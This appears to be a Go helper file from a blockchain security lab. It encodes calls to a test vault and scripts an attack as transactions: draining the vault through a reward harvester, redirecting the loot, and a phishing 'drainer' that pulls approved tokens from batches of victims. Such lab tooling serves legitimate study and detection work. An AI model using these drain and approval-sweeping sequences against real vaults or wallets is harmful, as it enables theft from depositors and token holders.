package contracts

import (
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
)

// Calls of the lab's vault, and the attack as a series of transactions.
const (
	vault     = "LabVault"
	drainer   = "Drainer"
	harvester = "RewardHarvester"
)

// MaxVictims bounds one batch of the drainer, so that it fits one transaction.
const MaxVictims = 100

// VaultRedeem is calldata for redeem(uint256,address,address): owner, who is
// the caller, gives back shares. It fails when shares is not a uint256.
func VaultRedeem(shares *big.Int, owner common.Address) ([]byte, error) {
	if err := checkUint256("shares", shares); err != nil {
		return nil, fmt.Errorf("pack redeem: %w", err)
	}
	return encode(vault, "redeem", shares, owner, owner), nil
}

// VaultDeposit is calldata for deposit(uint256,address). It fails when assets
// is not a uint256.
func VaultDeposit(assets *big.Int, receiver common.Address) ([]byte, error) {
	if err := checkUint256("assets", assets); err != nil {
		return nil, fmt.Errorf("pack deposit: %w", err)
	}
	return encode(vault, "deposit", assets, receiver), nil
}

// VaultClaim is calldata for claim(uint256,address). It fails when amount is
// not a uint256.
func VaultClaim(amount *big.Int, receiver common.Address) ([]byte, error) {
	if err := checkUint256("amount", amount); err != nil {
		return nil, fmt.Errorf("pack claim: %w", err)
	}
	return encode(vault, "claim", amount, receiver), nil
}

// VaultTotalAssetsQuery is calldata for the view totalAssets(), what depositors
// are owed in base units; read the answer with DecodeUint256. A vault that
// holds fewer tokens than that has been robbed.
func VaultTotalAssetsQuery() []byte { return encode(vault, "totalAssets") }

// VaultMaxRedeemQuery is calldata for the view maxRedeem(address), in shares;
// read the answer with DecodeUint256. Asked of a mined block it says what could
// still have left in that block, which is no more than the next one lets out.
func VaultMaxRedeemQuery(owner common.Address) []byte { return encode(vault, "maxRedeem", owner) }

// VaultClaimableQuery is calldata for the view claimable(address), in base
// units; read the answer with DecodeUint256.
func VaultClaimableQuery(account common.Address) []byte { return encode(vault, "claimable", account) }

// OpenHarvest are the attacker's two transactions before the series: approve
// the stake, deposit it through the harvester.
func (d Deployment) OpenHarvest(attacker common.Address, stake *big.Int) ([]Transaction, error) {
	if err := checkUint256("stake", stake); err != nil {
		return nil, fmt.Errorf("open the harvest: %w", err)
	}
	open := call(attacker, d.Harvester, encode(harvester, "open", stake), "open the harvest")
	open.Gas = gasHarvest
	return []Transaction{
		call(attacker, d.Token, encode(token, "approve", d.Harvester, stake), "approve the harvester"),
		open,
	}, nil
}

// Harvest is one transaction of the drain: it takes at most atMost base units,
// and at most the stake. A large number drains, a small one bleeds. Two cannot
// share a block when together they exceed the vault's cap per block.
func (d Deployment) Harvest(attacker common.Address, atMost *big.Int) (Transaction, error) {
	if err := checkUint256("amount", atMost); err != nil {
		return Transaction{}, fmt.Errorf("harvest: %w", err)
	}
	step := call(attacker, d.Harvester, encode(harvester, "harvest", atMost), "harvest")
	step.Gas = gasHarvest
	return step, nil
}

// RedirectHarvest sends later takings to another account.
func (d Deployment) RedirectHarvest(attacker, loot common.Address) Transaction {
	return call(attacker, d.Harvester, encode(harvester, "redirect", loot), "redirect the loot")
}

// PullApproved is one transaction of the phishing series: it moves all that
// the victims hold and have approved. It fails on an empty batch and on more
// than MaxVictims.
func (d Deployment) PullApproved(attacker, loot common.Address, victims []common.Address) (Transaction, error) {
	if len(victims) == 0 || len(victims) > MaxVictims {
		return Transaction{}, fmt.Errorf("pull from %d victims; a batch has 1 to %d", len(victims), MaxVictims)
	}
	step := call(attacker, d.Drainer, encode(drainer, "pull", victims, loot), "pull what was approved")
	step.Gas = gasPullFixed + gasPullPerHead*uint64(len(victims))
	return step, nil
}
